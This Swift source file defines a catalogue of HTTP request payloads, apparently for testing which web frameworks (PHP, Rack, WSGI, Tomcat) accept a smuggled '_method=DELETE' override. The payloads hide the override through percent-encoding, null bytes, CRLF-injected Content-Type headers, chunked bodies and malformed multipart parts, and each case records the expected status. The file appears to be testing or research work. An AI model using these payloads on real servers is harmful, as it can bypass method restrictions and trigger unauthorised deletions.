/// The attacks with a method in a form.
extension Attack {
    static let urlencodedType = "Content-Type: application/x-www-form-urlencoded"

    /// Urlencoded forms and what passes for one (B-04).
    static let inForms: [Attack] = [
        .form("_method=DELETE", Framework.overriding),
        .form("%5Fmethod=%44ELETE", Framework.overriding),
        .form("a=b&_method=DELETE&c=d", Framework.overriding),
        .form(".method=DELETE", Framework.php),
        .form("+_method=DELETE", Framework.php),
        .form("_method%00=DELETE", Framework.php),
        .form("_method=DELETE\r\n", [.wsgi]),
        .form("_method=DELETE", type: "", [.rack]),
        .form("_method=DELETE", type: "Content-Type:", [.rack]),
        .form(
            "_method=DELETE",
            type: "CONTENT-TYPE: APPLICATION/X-WWW-FORM-URLENCODED; charset=utf-8",
            Framework.overriding
        ),
        .form("_method=DELETE", type: "\(urlencodedType), text/plain", Framework.php + [.rack]),
        .form("_method=DELETE", type: "\(urlencodedType) x", Framework.php),
        .form(
            "_method=DELETE",
            type: "\(urlencodedType)\r\nContent-Type: text/plain",
            answer: 400,
            [.phpModule, .rack, .wsgi, .tomcat]
        ),
        Attack(
            name: "chunked",
            fields: [urlencodedType, "Transfer-Encoding: chunked"],
            content: "5\r\n_meth\r\n9\r\nod=DELETE\r\n0\r\n\r\n",
            works: [.phpModule, .phpServer, .rack, .tomcat]
        ),
        Attack(
            name: "PUT on the wire",
            method: "PUT",
            fields: [urlencodedType],
            content: "_method=DELETE",
            works: [.wsgi]
        ),
    ]

    /// Multipart forms with one part, `DELETE`, under these fields (B-04).
    static let inParts: [Attack] = [
        .part("form-data; name=\"_method\"", Framework.overriding),
        .part("form-data; name=_method", Framework.overriding),
        .part("form-data; name='_method'", Framework.php),
        .part("form-data; name=\"_me\\thod\"", [.rack]),
        .part("form-data; name=\" _method\"", Framework.php + [.tomcat]),
        .part("form-data; name=\".method\"", Framework.php),
        .part("form-data; name=\"a\"; name=\"_method\"", Framework.php + [.rack]),
        .part("form-data; name = \"_method\"", [.tomcat]),
        .part("form-data;\r\n name=\"_method\"", Framework.overriding),
        .part("FORM-DATA; NAME=\"_method\"", Framework.overriding),
        .part("attachment; name=\"_method\"", [.phpModule, .phpServer, .rack]),
        .part("form-data\r\nContent-ID: _method", [.rack]),
        .part("form-data; name*=UTF-8''%5Fmethod", answer: 400, [.tomcat]),
    ]

    /// Multipart forms whose frame is odd (B-04).
    static let inFrames: [Attack] = [
        .frame("preamble\r\n" + plain, answer: 400, Framework.php + [.rack, .wsgi, .tomcat]),
        .frame("--X--\r\n" + plain, answer: 400, Framework.php + [.rack]),
        .frame(part("a", "b") + "--X--\r\n" + plain, answer: 400, Framework.php),
        .frame(part("_method", "DELETE"), Framework.php),
        .frame(
            "--X\nContent-Disposition: form-data; name=\"_method\"\n\nDELETE\n--X--\n",
            answer: 400,
            Framework.php
        ),
        .frame("--X " + plain.dropFirst(3), answer: 400, [.rack]),
        .frame(plain, type: "multipart/form-data; boundary=\"X\"", Framework.overriding),
        .frame(plain, type: "MULTIPART/Form-Data; BOUNDARY=X", [.rack, .wsgi, .tomcat]),
        .frame(plain, type: "multipart/mixed; boundary=X", [.rack]),
        .frame(plain, type: "multipart/form-data; boundary=Y; boundary=X", answer: 400, [.tomcat]),
        .frame(
            plain,
            type: "multipart/form-data; boundary=X; boundary=Y",
            answer: 400,
            Framework.php
        ),
        .frame(
            plain,
            type: "multipart/form-data, boundary=X",
            answer: 400,
            Framework.php + [.rack]
        ),
        .frame(plain, type: "multipart/form-data; boundary =X", answer: 400, [.tomcat]),
        .frame(
            plain,
            type: "multipart/form-data; xboundary=X",
            answer: 400,
            Framework.php + [.rack]
        ),
    ]

    /// A multipart form that claims DELETE.
    private static let plain = part("_method", "DELETE") + "--X--\r\n"

    /// One part and its line end, without the delimiter after it.
    static func part(_ name: String, _ value: String) -> String {
        "--X\r\nContent-Disposition: form-data; name=\"\(name)\"\r\n\r\n\(value)\r\n"
    }

    private static func form(
        _ content: String,
        type: String = urlencodedType,
        answer: Int = 405,
        _ works: [Framework]
    ) -> Attack {
        let name = "\(type) \(content)".debugDescription
        let fields = type.isEmpty ? [] : [type]
        return Attack(name: name, fields: fields, content: content, answer: answer, works: works)
    }

    private static func part(
        _ disposition: String,
        answer: Int = 405,
        _ works: [Framework]
    ) -> Attack {
        Attack(
            name: disposition.debugDescription,
            fields: ["Content-Type: multipart/form-data; boundary=X"],
            content: "--X\r\nContent-Disposition: \(disposition)\r\n\r\nDELETE\r\n--X--\r\n",
            answer: answer,
            works: works
        )
    }

    private static func frame(
        _ content: String,
        type: String = "multipart/form-data; boundary=X",
        answer: Int = 405,
        _ works: [Framework]
    ) -> Attack {
        Attack(
            name: "\(type) \(content)".debugDescription,
            fields: ["Content-Type: \(type)"],
            content: content,
            answer: answer,
            works: works
        )
    }
}
